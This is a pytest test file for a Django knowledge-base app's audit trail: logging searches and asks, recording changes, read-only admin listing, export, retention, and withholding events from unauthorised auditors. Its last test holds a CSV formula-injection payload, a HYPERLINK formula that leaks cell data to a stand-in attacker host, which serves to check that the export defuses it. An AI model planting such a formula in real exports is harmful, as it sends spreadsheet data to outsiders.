"""The audit trail: every search and ask with what it showed and cited, every change of a
document, collection, grant, membership or token with its actor and diff, attributed to the
API, the admin, the pages or a command; read-only in the admin; exported as CSV and JSON."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.contrib.auth.models import Permission
from django.core.management import call_command
from django.db import transaction
from django.urls import reverse
from django.utils import timezone
from guardian.shortcuts import assign_perm, remove_perm

from accounts.models import AuditEvent
from accounts.services import AuditOrigin, audit_origin, audit_purge, token_create, token_revoke
from chat.streams import answer_sse
from documents.models import Document
from documents.services.uploads import document_delete
from tests.accounts.factories import GroupFactory, UserFactory
from tests.api import api_client, sse, upload
from tests.chat.asking import question_add
from tests.fake_openai import FakeOpenAI

pytestmark = pytest.mark.django_db

A = AuditEvent.Action
LEAVE = "How many days of annual leave? Reply to anna.berg@example.com"


@pytest.fixture
def admin_client(client, people):
    """The superuser, signed in to the admin."""
    people["superuser"].is_staff = True
    people["superuser"].save()
    client.force_login(people["superuser"])
    return client


def events(action):
    return list(AuditEvent.objects.filter(action=action).order_by("id"))


def test_a_search_records_who_asked_what_and_each_passage_it_returned(people):
    client = api_client(people["member"])
    token = people["member"].api_tokens.get()

    passages = client.post("/api/v1/search/", {"query": LEAVE, "k": 3}, format="json").json()[
        "passages"
    ]

    [event] = events(A.SEARCH)
    assert (event.actor, event.actor_name, event.via) == (people["member"], "member", "api")
    assert event.token_prefix == token.prefix and event.client_ip == "127.0.0.1"
    assert event.query == "How many days of annual leave? Reply to [email]"
    assert event.returned_chunks == [p["chunk_id"] for p in passages]
    assert event.returned_documents == list(dict.fromkeys(p["document_id"] for p in passages))
    assert event.details["k"] == 3 and event.details["mode"] == "hybrid"


def test_the_recorded_client_address_is_the_one_the_rate_limits_use(people, settings):
    """GIVEN a declared proxy WHEN a search comes through it THEN the audit records the client
    it saw, and a header from an undeclared sender is not believed."""
    settings.TRUSTED_PROXIES = ["127.0.0.1"]
    client = api_client(people["member"])
    client.post("/api/v1/search/", {"query": LEAVE}, format="json", HTTP_X_FORWARDED_FOR="1.2.3.4")
    settings.TRUSTED_PROXIES = []
    client.post("/api/v1/search/", {"query": LEAVE}, format="json", HTTP_X_FORWARDED_FOR="1.2.3.4")

    assert [event.client_ip for event in events(A.SEARCH)] == ["1.2.3.4", "127.0.0.1"]


def test_an_ask_records_the_sources_shown_and_the_ones_cited(people, llm_endpoint):
    FakeOpenAI.replies = ["27 days [1]. Write to hr@example.com or call +44 20 7946 0958."]
    leave = people["handbook"].documents.get(title="leave.md")

    answer = (
        api_client(people["member"]).post("/api/v1/ask/", {"question": LEAVE}, format="json")
    ).json()["answer"]

    [event] = events(A.ASK)
    assert event.actor == people["member"] and event.via == "api"
    assert event.answer == "27 days [1]. Write to [email] or call [phone]."
    shown = [chunk for source in answer["sources"] for chunk in source["chunk_ids"]]
    assert event.returned_chunks == shown and len(shown) > 1
    assert event.cited_documents == [leave.pk]
    assert event.cited_chunks == answer["sources"][0]["chunk_ids"]
    assert event.details["answer"] == answer["id"] and event.details["mode"] == "generated"


def test_a_streamed_ask_is_recorded_with_its_requests_origin(people, llm_endpoint):
    """GIVEN an answer streamed after the request's middleware has returned
    THEN its audit record still names the API token it came with."""
    FakeOpenAI.replies = ["27 days [1]."]
    client = api_client(people["member"])

    sse(client.post("/api/v1/ask/", {"question": LEAVE, "stream": True}, format="json"))

    [event] = events(A.ASK)
    assert event.via == "api" and event.token_prefix == people["member"].api_tokens.get().prefix
    assert event.cited_chunks and event.details["mode"] == "generated"


def test_an_ask_abandoned_mid_stream_is_still_recorded_with_what_it_showed(people, llm_endpoint):
    """GIVEN a streamed answer whose asker goes away after the sources
    WHEN the server closes the stream THEN the ask is recorded, marked incomplete."""
    FakeOpenAI.replies = ["27 days [1]."]
    member = people["member"]
    question = question_add(conversation=None, user=member, text=LEAVE)
    with audit_origin(AuditOrigin(via="api")):
        stream = answer_sse(
            question=question,
            user=member,
            task="answer",
            opening={},
            sources=lambda described: {},
            done=lambda answer: {},
        )

    kinds = [next(stream).split("\n")[0], next(stream).split("\n")[0]]
    stream.close()

    assert kinds == ["event: question", "event: sources"]
    [event] = events(A.ASK)
    assert event.via == "api" and event.actor == member
    assert event.returned_chunks and event.cited_chunks == []
    assert event.details["mode"] == "incomplete" and event.answer == ""


def test_an_ask_from_the_chat_page_is_recorded_as_such(client, people):
    client.force_login(people["member"])

    client.post(reverse("chat:ask"), {"question": LEAVE})

    [event] = events(A.ASK)
    assert event.via == "page" and event.actor == people["member"] and event.token_prefix == ""


def test_document_changes_through_the_api_record_the_actor_and_what_changed(people, handbook):
    client = api_client(people["owner"], scope="write")

    created = upload(client, people["handbook"], name="new.md").json()["document"]
    upload(client, people["handbook"], name="new.md", text="# New\n\nVersion two.")
    client.patch(
        f"/api/v1/documents/{created['id']}/",
        {"title": "Newer", "metadata": {"team": "hr"}},
        format="json",
    )
    client.post(f"/api/v1/documents/{created['id']}/reprocess/")
    client.delete(f"/api/v1/documents/{created['id']}/")

    trail = list(AuditEvent.objects.filter(target_id=created["id"]).order_by("id"))
    assert [e.action for e in trail] == [
        A.DOCUMENT_CREATE,
        A.DOCUMENT_UPDATE,
        A.DOCUMENT_UPDATE,
        A.DOCUMENT_REPROCESS,
        A.DOCUMENT_DELETE,
    ]
    assert all(e.actor == people["owner"] and e.via == "api" for e in trail)
    assert trail[0].details["title"] == "new.md" and trail[0].details["collection"] == "Handbook"
    assert trail[1].details["version"] == [1, 2]
    assert trail[2].details == {"title": ["new.md", "Newer"], "metadata": [{}, {"team": "hr"}]}
    assert trail[4].target_repr == "Newer"


def test_processing_a_document_is_not_recorded_as_a_change(people, handbook):
    """The handbook fixture parsed, chunked, embedded and stored its documents: the worker's
    status bookkeeping is not a person's change."""
    assert not AuditEvent.objects.filter(action=A.DOCUMENT_UPDATE).exists()
    assert AuditEvent.objects.filter(action=A.DOCUMENT_CREATE).count() == Document.objects.count()


def test_grants_and_revocations_record_who_got_or_lost_which_right(people):
    readers = GroupFactory(name="auditors")
    reader = UserFactory(username="reader")
    board = people["board"]

    assign_perm("view_document", reader, board)
    assign_perm("view_document", readers, board)
    remove_perm("view_document", reader, board)

    trail = list(AuditEvent.objects.filter(target_type="collection", target_id=board.pk))
    assert [(e.action, e.details) for e in sorted(trail, key=lambda e: e.id)][-3:] == [
        (A.PERMISSION_GRANT, {"user": "reader", "permission": "view_document"}),
        (A.PERMISSION_GRANT, {"group": "auditors", "permission": "view_document"}),
        (A.PERMISSION_REVOKE, {"user": "reader", "permission": "view_document"}),
    ]


def test_deleting_a_document_records_its_deletion_not_a_revocation_per_grant(people, handbook):
    leave = handbook["leave.md"]
    assign_perm("view_document", people["stranger"], leave)
    pk = leave.pk

    document_delete(document=leave)

    assert [e.action for e in AuditEvent.objects.filter(target_id=pk).order_by("id")] == [
        A.DOCUMENT_CREATE,
        A.PERMISSION_GRANT,
        A.DOCUMENT_DELETE,
    ]


def test_membership_flags_and_model_permissions_are_recorded(people):
    user, group = people["stranger"], GroupFactory(name="finance")

    user.groups.add(group)
    group.user_set.remove(user)
    user.groups.add(group)
    user.groups.clear()
    user.is_superuser = True
    user.save()
    user.user_permissions.add(
        Permission.objects.get(codename="view_document", content_type__model="document")
    )

    trail = AuditEvent.objects.filter(target_type="user", target_id=user.pk).order_by("id")
    assert [(e.action, e.details) for e in trail] == [
        (A.MEMBERSHIP_ADD, {"group": "finance"}),
        (A.MEMBERSHIP_REMOVE, {"group": "finance"}),
        (A.MEMBERSHIP_ADD, {"group": "finance"}),
        (A.MEMBERSHIP_REMOVE, {"group": "finance"}),
        (A.USER_UPDATE, {"is_superuser": [False, True]}),
        (A.PERMISSION_GRANT, {"permission": "documents.view_document"}),
    ]


def test_tokens_created_and_revoked_are_recorded_without_their_secret(people):
    token, plain = token_create(user=people["member"], scope="write", days=7)
    token_revoke(token=token)
    token_revoke(token=token)

    trail = list(AuditEvent.objects.filter(target_type="apitoken", target_id=token.pk))
    assert sorted(e.action for e in trail) == [A.TOKEN_CREATE, A.TOKEN_REVOKE]
    assert all(plain not in json.dumps(e.details) + e.target_repr for e in trail)


def test_a_change_that_rolls_back_leaves_no_record(people, handbook):
    canteen = handbook["canteen.txt"]

    with pytest.raises(RuntimeError), transaction.atomic():
        canteen.title = "Renamed"
        canteen.save()
        raise RuntimeError("the request failed after the change")

    assert not AuditEvent.objects.filter(action=A.DOCUMENT_UPDATE).exists()


def test_an_admin_change_is_recorded_as_made_in_the_admin(admin_client, people, handbook):
    canteen = handbook["canteen.txt"]
    page = reverse("admin:documents_document_change", args=[canteen.pk])
    form = {
        "collection": canteen.collection_id,
        "title": "Canteen",
        "metadata": "{}",
        "owner": canteen.owner_id,
        "source": canteen.source,
        "external_id": "",
        "language": canteen.language,
        # The read-only versions inline: its management form, with no rows to change.
        "versions-TOTAL_FORMS": "0",
        "versions-INITIAL_FORMS": "0",
    }

    response = admin_client.post(page, form)

    assert response.status_code == 302, response.content.decode()[:2000]
    [event] = events(A.DOCUMENT_UPDATE)
    assert event.via == "admin" and event.actor == people["superuser"]
    assert event.details == {"title": ["canteen.txt", "Canteen"]}


def test_the_admin_lists_the_trail_read_only_and_only_to_those_allowed(client, people):
    people["superuser"].is_staff = True
    people["superuser"].save()
    api_client(people["member"]).post("/api/v1/search/", {"query": LEAVE}, format="json")
    event = events(A.SEARCH)[0]
    knowledge_manager = UserFactory(username="km", is_staff=True)

    client.force_login(knowledge_manager)
    refused = client.get(reverse("admin:accounts_auditevent_changelist"))
    client.force_login(people["superuser"])
    listed = client.get(reverse("admin:accounts_auditevent_changelist"), {"action": "search"})
    found = client.get(
        reverse("admin:accounts_auditevent_changelist"), {"q": event.returned_documents[0]}
    )
    detail = client.get(reverse("admin:accounts_auditevent_change", args=[event.pk]))
    deleted = client.post(reverse("admin:accounts_auditevent_delete", args=[event.pk]))

    assert refused.status_code == 403
    assert listed.status_code == 200 and "[email]" in listed.content.decode()
    assert event in found.context["cl"].result_list
    assert detail.status_code == 200 and b'name="_save"' not in detail.content
    assert deleted.status_code == 403 and AuditEvent.objects.filter(pk=event.pk).exists()


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_the_admin_exports_the_selected_events(admin_client, people, fmt):
    api_client(people["member"]).post("/api/v1/search/", {"query": LEAVE}, format="json")
    chosen = events(A.SEARCH)

    response = admin_client.post(
        reverse("admin:accounts_auditevent_changelist"),
        {"action": f"export_{fmt}", "_selected_action": [e.pk for e in chosen]},
    )

    assert response["Content-Disposition"].endswith(f'.{fmt}"')
    body = response.content.decode()
    rows = list(csv.DictReader(io.StringIO(body))) if fmt == "csv" else json.loads(body)
    assert [int(r["id"]) for r in rows] == [e.pk for e in chosen]
    returned = rows[0]["returned_chunks"]
    assert (json.loads(returned) if fmt == "csv" else returned) == chosen[0].returned_chunks


def test_the_export_command_filters_by_action_actor_document_and_day(people, handbook):
    api_client(people["member"]).post("/api/v1/search/", {"query": LEAVE}, format="json")
    api_client(people["owner"]).post("/api/v1/search/", {"query": "canteen"}, format="json")
    leave = handbook["leave.md"]
    today = timezone.now().date().isoformat()
    out = io.StringIO()

    call_command(
        "export_audit",
        "--format=json",
        "--action=search",
        "--actor=member",
        f"--document={leave.pk}",
        f"--since={today}",
        f"--until={today}",
        stdout=out,
        stderr=io.StringIO(),
    )

    [row] = json.loads(out.getvalue())
    assert row["actor_name"] == "member" and leave.pk in row["returned_documents"]


def test_a_command_search_is_recorded_as_made_by_a_command(people):
    call_command("search", "annual leave", "--user=member", stdout=io.StringIO())

    [event] = events(A.SEARCH)
    assert event.via == "command" and event.actor == people["member"]


def test_events_older_than_the_retention_are_purged(people, settings):
    old = AuditEvent.objects.create(
        action=A.SEARCH, via="api", at=timezone.now() - timedelta(days=40)
    )
    recent = AuditEvent.objects.create(action=A.SEARCH, via="api")
    settings.AUDIT_RETENTION_DAYS = 0
    kept_all = audit_purge()
    settings.AUDIT_RETENTION_DAYS = 30
    purged = audit_purge()

    assert kept_all == 0 and purged == 1
    assert AuditEvent.objects.filter(pk=recent.pk).exists()
    assert not AuditEvent.objects.filter(pk=old.pk).exists()


def test_an_auditor_sees_every_event_but_nothing_of_what_they_may_not_read(client, people):
    """GIVEN searches and changes on the handbook and on the board's minutes
    WHEN an auditor (view_auditevent) who may read the handbook but not the board's collection
    lists, opens, searches and exports the trail THEN they see every event, the handbook's
    titles and answers, and none of the board's: not its title, the answer quoting it, the
    chunks, nor the board document's id."""
    board_minutes = people["board"].documents.get()
    api_client(people["superuser"]).post(
        "/api/v1/ask/", {"question": "How many days did the board approve?"}, format="json"
    )
    api_client(people["superuser"], scope="write").patch(
        f"/api/v1/documents/{board_minutes.pk}/", {"title": "Board minutes, final"}, format="json"
    )
    auditor = UserFactory(is_staff=True)
    auditor.user_permissions.set(Permission.objects.filter(codename="view_auditevent"))
    assign_perm("view_document", auditor, people["handbook"])
    client.force_login(auditor)
    url = reverse("admin:accounts_auditevent_changelist")

    listed = client.get(url)
    ask = events(A.ASK)[0]
    change = events(A.DOCUMENT_UPDATE)[0]
    pages = [
        listed,
        client.get(reverse("admin:accounts_auditevent_change", args=[ask.pk])),
        client.get(reverse("admin:accounts_auditevent_change", args=[change.pk])),
        client.get(url, {"q": "approved"}),
        client.post(
            url,
            {"action": "export_json", "_selected_action": [ask.pk, change.pk]},
        ),
    ]

    assert len(listed.context["cl"].result_list) == AuditEvent.objects.count()
    assert "30 days" in ask.answer and "Board minutes" in change.target_repr
    for page in pages:
        body = page.content.decode()
        assert "30 days" not in body and "Board minutes" not in body, body[:300]
    assert list(pages[3].context["cl"].result_list) == []  # answers are not searched
    exported = {row["id"]: row for row in json.loads(pages[4].content)}
    assert exported[change.pk]["details"] == {} and exported[change.pk]["target_repr"] == (
        "[withheld: not readable by you]"
    )
    assert board_minutes.pk not in exported[ask.pk]["returned_documents"]
    assert exported[ask.pk]["returned_chunks"] == []
    assert client.get(url, {"q": str(board_minutes.pk)}).context["cl"].result_list == []

    client.force_login(people["superuser"])
    people["superuser"].is_staff = True
    people["superuser"].save()
    whole = client.post(url, {"action": "export_json", "_selected_action": [ask.pk]})
    assert "30 days" in whole.content.decode()


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(admin_client, people):
    """A query like =HYPERLINK(...) is stored as typed; the export starts it with an
    apostrophe so that opening the file runs nothing."""
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    api_client(people["member"]).post("/api/v1/search/", {"query": hostile}, format="json")
    for start in ("+1+1", "-2+3", "@SUM(A1)"):
        api_client(people["member"]).post("/api/v1/search/", {"query": start}, format="json")
    chosen = events(A.SEARCH)

    response = admin_client.post(
        reverse("admin:accounts_auditevent_changelist"),
        {"action": "export_csv", "_selected_action": [e.pk for e in chosen]},
    )

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {row["query"] for row in rows} == {
        "'" + hostile,
        "'+1+1",
        "'-2+3",
        "'@SUM(A1)",
    }
    assert all(not value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())
